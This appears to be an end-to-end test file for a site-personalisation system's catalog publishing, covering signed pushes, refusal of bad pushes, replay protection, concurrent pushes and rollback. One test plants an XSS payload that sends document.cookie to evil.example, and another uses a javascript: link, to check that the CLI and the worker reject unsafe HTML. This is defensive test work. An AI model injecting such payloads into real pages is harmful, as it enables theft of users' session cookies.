// Publishing end to end: the page worker and the control worker in one
// `wrangler dev` on the same local KV, the demo site as origin. The CLI
// pushes an edited copy of the demo catalog; pushes signed here with
// node:crypto (what an origin in any language does) probe every refusal.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { createHmac, randomUUID } from 'node:crypto';
import { cpSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { ROOT, startWorker, kvEntries, kvKeys, tailor } from './harness.mjs';
import { COOKIE, DEMO_PROFILES, PROFILE_KEYS, mint, startDemoOrigin, variantOf } from './demo.mjs';

const SECRET = 'e2e-push-secret-0123456789abcdefghijklmnop';
const OLD_SECRET = 'e2e-old-push-secret-0123456789abcdefghijk';
const WORK = join(ROOT, 'target/e2e/publish-catalog');
const CTO = { cookie: `${COOKIE}=${mint(DEMO_PROFILES['fintech CTO, enterprise'].fields)}` };

let origin, worker;

async function setUp() {
  // An editable copy of the demo catalog and its fragment files.
  cpSync(join(ROOT, 'catalog'), WORK, { recursive: true });
  origin = await startDemoOrigin();
  worker = await startWorker('publish', {
    entries: kvEntries('catalog/demo.json'),
    vars: { ORIGIN_URL: origin.url, TAILOR_SITE: 'demo', TAILOR_CATALOG_REFRESH_MS: '0', TAILOR_PROFILE_KEYS: PROFILE_KEYS },
    control: { vars: { TAILOR_SITE: 'demo', TAILOR_PUBLISH_SECRETS: `${SECRET},${OLD_SECRET}`, TAILOR_PUBLISH_MAX_BYTES: '262144' } },
  });
}
before(setUp, { timeout: 240_000 });
after(async () => { worker?.stop(); await origin?.stop(); });

/** The CLI, pushing or rolling back; returns { ok, out, err }. */
function cli(...args) {
  try {
    const out = tailor('catalog', ...args, { env: { ...process.env, TAILOR_PUBLISH_SECRETS: SECRET } });
    return { ok: true, out: out.toString('utf8'), err: '' };
  } catch (e) {
    return { ok: false, out: e.stdout?.toString('utf8') ?? '', err: e.stderr?.toString('utf8') ?? '' };
  }
}

/** A push signed here: Standard-Webhooks-style headers over id.timestamp.METHOD.path.body. */
function signed(path, body, { id = randomUUID(), ts = Math.floor(Date.now() / 1000), secret = SECRET } = {}) {
  const mac = createHmac('sha256', secret).update(`${id}.${ts}.POST.${path}.`).update(body).digest('base64');
  return { id, ts, headers: { 'content-type': 'application/json', 'tailor-id': id, 'tailor-timestamp': String(ts), 'tailor-signature': `v1,${mac}` } };
}

async function post(path, body, headers) {
  const res = await fetch(`${worker.url}${path}`, { method: 'POST', body, headers });
  const text = await res.text();
  let json = null;
  try { json = JSON.parse(text); } catch { /* not JSON */ }
  return { status: res.status, json, text };
}

async function heroFor(headers = CTO) {
  const res = await fetch(`${worker.url}/`, { headers });
  const html = await res.text();
  const start = html.indexOf('<tailor-block name="hero">');
  return { variant: variantOf(html, 'hero'), hero: html.slice(start, html.indexOf('</tailor-block>', start)) };
}

const liveVersion = async () => (await (await fetch(`${worker.url}/__tailor/decide?path=/`)).json()).catalog_version;

/** The demo catalog (inlined) with the CTO hero's headline replaced. */
function catalogWithHeadline(headline) {
  const doc = JSON.parse(tailor('catalog', 'inline', join(WORK, 'demo.json')).toString('utf8'));
  const variant = doc.blocks.hero.variants.find((v) => v.id === 'fintech-enterprise');
  variant.html = variant.html.replace(/<h1 class="hero__title">[\s\S]*?<\/h1>/, `<h1 class="hero__title">${headline}</h1>`);
  return doc;
}

test('a catalog edited in the source file and pushed with the CLI changes the page on the next request', { timeout: 60_000 }, async () => {
  const before = await heroFor();
  assert.equal(before.variant, 'fintech-enterprise');
  const file = join(WORK, 'demo/hero/fintech-enterprise.html');
  writeFileSync(file, readFileSync(file, 'utf8').replace(/<h1 class="hero__title">[\s\S]*?<\/h1>/, '<h1 class="hero__title">Reconcile RTP and FedNow in real time</h1>'));
  const pushed = cli('push', join(WORK, 'demo.json'), '--to', worker.url);
  assert.ok(pushed.ok, pushed.err);
  const answer = JSON.parse(pushed.out);
  assert.equal(answer.status, 'published');
  const after = await heroFor();
  assert.match(after.hero, /Reconcile RTP and FedNow in real time/);
  assert.equal(await liveVersion(), answer.version);
  // The same set again: nothing to do.
  const again = cli('push', join(WORK, 'demo.json'), '--to', worker.url);
  assert.equal(JSON.parse(again.out).status, 'unchanged');
});

test('a push with one unsafe fragment is refused with a message naming it, and the live page is unchanged', { timeout: 60_000 }, async () => {
  const live = await liveVersion();
  const page = await heroFor();
  const file = join(WORK, 'demo/cta/developer.html');
  const original = readFileSync(file, 'utf8');
  writeFileSync(file, `${original}<img src="x" onerror="fetch('//evil.example/'+document.cookie)">`);
  try {
    // The CLI refuses it locally, with the same rules as the worker.
    const local = cli('push', join(WORK, 'demo.json'), '--to', worker.url);
    assert.equal(local.ok, false);
    assert.match(local.err, /blocks\.cta\.variants\.\d+: unsafe HTML: .*onerror/);
    // Sent anyway (signed by hand): the worker refuses it the same way.
    const doc = JSON.parse(tailor('catalog', 'inline', join(WORK, 'demo.json')).toString('utf8'));
    const body = JSON.stringify(doc);
    const res = await post('/__tailor/publish', body, signed('/__tailor/publish', body).headers);
    assert.equal(res.status, 400, res.text);
    assert.match(res.json.problems[0].path, /^blocks\.cta\.variants\.\d+$/);
    assert.match(res.json.problems[0].message, /onerror/);
  } finally {
    writeFileSync(file, original);
  }
  assert.equal(await liveVersion(), live);
  assert.equal((await heroFor()).hero, page.hero);
});

test('every kind of bad push is refused with its status and leaves KV untouched', { timeout: 120_000 }, async () => {
  const keys = await kvKeys(worker);
  const live = await liveVersion();
  const good = JSON.stringify(catalogWithHeadline('Never published'));
  const path = '/__tailor/publish';
  const now = Math.floor(Date.now() / 1000);
  const { headers } = signed(path, good);
  const dangling = catalogWithHeadline('x');
  dangling.blocks.hero.default = 'no-such-variant';
  const schema = catalogWithHeadline('x');
  schema.blocks.hero.variants[0].colour = 'red';
  const badCondition = catalogWithHeadline('x');
  badCondition.blocks.hero.variants[1].when = { role: { $nope: 1 } };
  const unsafe = catalogWithHeadline('<a href="javascript:alert(1)">x</a>');
  const cases = [
    ['missing signature', good, { ...headers, 'tailor-signature': undefined }, 401, /tailor-signature/],
    ['bad signature', good, { ...headers, 'tailor-signature': 'v1,AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=' }, 401, /no signature matches/],
    ['another secret', good, signed(path, good, { secret: 'someone-elses-secret-0123456789abcdefghij' }).headers, 401, /no signature matches/],
    ['stale timestamp', good, signed(path, good, { ts: now - 600 }).headers, 401, /tolerance/],
    ['future timestamp', good, signed(path, good, { ts: now + 600 }).headers, 401, /tolerance/],
    ['changed body', good.replace('Never published', 'Changed in flight'), headers, 401, /no signature matches/],
    ['oversized', 'x'.repeat(300_000), signed(path, 'x'.repeat(300_000)).headers, 413, /cap/],
    ['not JSON', '{"site":', signed(path, '{"site":').headers, 400, /not a catalog/],
    ['invalid schema', JSON.stringify(schema), signed(path, JSON.stringify(schema)).headers, 400, /colour/],
    ['dangling reference', JSON.stringify(dangling), signed(path, JSON.stringify(dangling)).headers, 400, /no-such-variant/],
    ['condition that does not compile', JSON.stringify(badCondition), signed(path, JSON.stringify(badCondition)).headers, 400, /\$nope/],
    ['unsafe HTML', JSON.stringify(unsafe), signed(path, JSON.stringify(unsafe)).headers, 400, /javascript:/],
  ];
  for (const [name, body, hdrs, status, message] of cases) {
    const clean = Object.fromEntries(Object.entries(hdrs).filter(([, v]) => v !== undefined));
    const res = await post(path, body, clean);
    assert.equal(res.status, status, `${name}: ${res.text}`);
    assert.match(res.json?.error + JSON.stringify(res.json?.problems ?? ''), message, name);
  }
  const get = await fetch(`${worker.url}${path}`);
  assert.equal(get.status, 405);
  assert.deepEqual(await kvKeys(worker), keys, 'KV keys changed');
  assert.equal(await liveVersion(), live);
});

test('a replayed request is refused; a secret being rotated out still signs', { timeout: 60_000 }, async () => {
  const body = JSON.stringify(catalogWithHeadline('Signed with the old secret'));
  const { headers } = signed('/__tailor/publish', body, { secret: OLD_SECRET });
  const first = await post('/__tailor/publish', body, headers);
  assert.equal(first.status, 200, first.text);
  assert.match((await heroFor()).hero, /Signed with the old secret/);
  const replay = await post('/__tailor/publish', body, headers);
  assert.equal(replay.status, 409, replay.text);
  assert.match(replay.json.error, /already used/);
});

test('two concurrent pushes end with one consistent live version', { timeout: 60_000 }, async () => {
  const a = JSON.stringify(catalogWithHeadline('Concurrent A'));
  const b = JSON.stringify(catalogWithHeadline('Concurrent B'));
  const results = await Promise.all([
    post('/__tailor/publish', a, signed('/__tailor/publish', a).headers),
    post('/__tailor/publish', b, signed('/__tailor/publish', b).headers),
  ]);
  for (const r of results) assert.ok([200, 409].includes(r.status), r.text);
  const winners = results.filter((r) => r.status === 200).map((r) => r.json.version);
  assert.ok(winners.length >= 1);
  const live = await liveVersion();
  assert.ok(winners.includes(live), `${live} not among ${winners}`);
  const { hero } = await heroFor();
  const shows = /Concurrent A/.test(hero) ? 'A' : /Concurrent B/.test(hero) ? 'B' : 'neither';
  const expected = results.find((r) => r.json?.version === live) === results[0] ? 'A' : 'B';
  assert.equal(shows, expected);
});

test('rollback with the CLI restores the earlier page', { timeout: 60_000 }, async () => {
  const first = JSON.stringify(catalogWithHeadline('Before the rollback'));
  const published = await post('/__tailor/publish', first, signed('/__tailor/publish', first).headers);
  assert.equal(published.status, 200, published.text);
  const second = JSON.stringify(catalogWithHeadline('A mistake'));
  assert.equal((await post('/__tailor/publish', second, signed('/__tailor/publish', second).headers)).status, 200);
  assert.match((await heroFor()).hero, /A mistake/);
  const back = cli('rollback', '--to', worker.url, published.json.version);
  assert.ok(back.ok, back.err);
  assert.equal(JSON.parse(back.out).status, 'rolled-back');
  assert.match((await heroFor()).hero, /Before the rollback/);
  const unknown = cli('rollback', '--to', worker.url, 'v-0000000000000000');
  assert.equal(unknown.ok, false);
  assert.match(unknown.err, /HTTP 409.*not retained/s);
});
